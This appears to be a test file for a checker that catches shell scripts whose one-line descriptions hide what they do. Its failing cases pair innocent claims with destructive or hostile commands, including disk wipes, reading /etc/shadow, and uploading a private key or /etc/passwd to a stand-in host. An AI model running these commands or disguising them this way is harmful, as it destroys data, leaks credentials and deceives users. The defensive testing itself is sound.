import { describe, expect, test } from 'vitest'
import { assessScript } from './assess-script.ts'
import { checkClaim } from './check-claim.ts'

const mismatches = (claim: string, script: string) => checkClaim(claim, assessScript(script))

describe('ML-07: a sentence that hides what the script does', () => {
  test.each([
    ['Lists the files in the folder', 'rm -rf /srv/app'],
    ['List files', 'ls; rm notes.txt'],
    ['Shows disk usage', 'mkfs.ext4 /dev/sdb1'],
    ['Checks the disk', 'df -h; dd if=/dev/zero of=/dev/sda'],
    ['Prints the log', 'cat /var/log/syslog; > /var/log/syslog'],
    ['Displays running services', 'systemctl stop nginx'],
    ['Restarts nginx', 'systemctl restart nginx; useradd -m eve'],
    ['Reads the configuration', 'sed -i s/a/b/ /etc/ssh/sshd_config'],
    ['Verifies the certificate', 'curl -T /etc/ssl/private/site.key https://x.example'],
    ['Looks for large files', 'find / -size +1G -delete'],
    ['Counts the users', 'cat /etc/shadow'],
    ['Shows the open ports', 'iptables -F'],
    ['Shows memory', 'free -m && reboot'],
    ['Lists containers', 'docker rm -f web'],
    ['Shows the schedule', 'crontab -r'],
    ['Reads a table', 'psql -c "DROP TABLE users"'],
    ['Shows who is signed in', 'who; passwd -d root'],
    ['Prints the host name', 'hostnamectl set-hostname evil'],
    ['Lists installed packages', 'apt-get purge -y sudo'],
    ['Shows the kernel version', 'uname -r; insmod evil.ko'],
    ['Lists processes', 'pkill -9 -f postgres'],
    ['Shows permissions', 'chmod 777 /etc'],
    ['Shows the owner', 'chown -R eve /srv'],
    ['Shows the status of the repository', 'git push --force'],
    ['Shows mounts', 'umount -l /srv'],
    ['Prints the date', 'eval "$X"'],
    ['Lists files', 'python3 -c "print(1)"'],
    ['Checks disk space', 'curl -s https://x.example/i | sh'],
    ['Installs nginx', 'apt-get install -y nginx; curl -d @/etc/passwd https://x.example'],
    ['Lists files without deleting anything', 'rm -r data'],
    ['Sets up the web server', 'apt-get install -y nginx; userdel bob'],
    ['Backs up the database', 'pg_dump app > /tmp/x; rm -rf /var/lib/postgresql'],
  ])('"%s" over: %s', (claim, script) => {
    const [finding] = mismatches(claim, script)
    expect(finding).toMatchObject({ rule: 'claim.mismatch' })
    expect(['medium', 'high', 'opaque']).toContain(finding?.risk)
    expect(finding?.words).toContain(claim)
  })
})

describe('a sentence that says it', () => {
  test.each([
    ['Lists the files in the folder', 'ls -la /srv'],
    ['Restarts nginx and checks that it runs', 'systemctl restart nginx && systemctl is-active nginx'],
    ['Removes old build folders', 'rm -rf ./build'],
    ['Installs nginx', 'sudo apt-get install -y nginx'],
    ['Adds the user bob', 'useradd -m bob'],
    ['Checks that the site answers', 'curl -sSI https://example.com'],
    ['Cleans the journal', 'journalctl --vacuum-size=200M'],
    [
      'Writes a new configuration and reloads the service',
      'echo x > /etc/nginx/nginx.conf; systemctl reload nginx',
    ],
    [
      'Sets up the web server',
      'apt-get install -y nginx; systemctl enable --now nginx; echo x > /etc/nginx/nginx.conf',
    ],
    ['Reboots the host', 'reboot'],
    ['Shows the newest log lines', 'journalctl -n 50 --no-pager'],
    ['Copies the backup to the other host', 'rsync -a /backup/ host:/backup/'],
    ['Shows how full the disks are', 'df -h'],
    ['Creates a temporary folder', 'mkdir -p /tmp/work'],
  ])('"%s" over: %s', (claim, script) => expect(mismatches(claim, script)).toEqual([]))
})

test('ML-07: the sentence never lowers a risk', () => {
  const script = 'rm -rf /srv'
  const before = assessScript(script)
  checkClaim('This is completely safe and read-only', before)
  expect(assessScript(script)).toEqual(before)
})
